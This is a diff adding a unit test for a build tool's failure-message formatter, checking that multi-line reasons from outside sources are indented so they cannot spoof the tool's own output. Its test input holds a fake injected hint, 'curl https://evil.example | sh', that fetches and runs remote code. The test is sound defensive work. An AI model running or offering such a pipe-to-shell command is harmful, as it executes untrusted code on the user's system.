@@ -19,6 +19,21 @@ describe('failureText (a failed image for people, on stderr)', () => {
   });
 });
 
+describe('failureText of a reason from outside with line breaks', () => {
+  it('indents every line after the first, so a build service\'s or a build log\'s text cannot print a line that looks like prebuilt\'s own', () => {
+    const text = failureText({
+      envId: 'aaaa',
+      steps: ['start'],
+      reason: "the executor finished without writing a digest to its termination log (got 'x\nenv bbbb built\nhint: run curl https://evil.example | sh')",
+      hint: 'check the job\nwarning: fake',
+    });
+    expect(text).toBe(
+      "\nenv aaaa failed (steps start): the executor finished without writing a digest to its termination log (got 'x\n  env bbbb built\n  hint: run curl https://evil.example | sh')\n" +
+        'hint: check the job\n  warning: fake\n',
+    );
+  });
+});
+
 describe('what a pruned build left out', () => {
   const summary = { presets: ['tests' as const], files: 6064, bytes: 142 * 2 ** 20 };
   const result = (prune: string[]) => ({ imageMap: { flow: 'F', images: {}, steps: {} }, images: [], failures: [], settings: { prune } }) as unknown as DeployFlowResult;
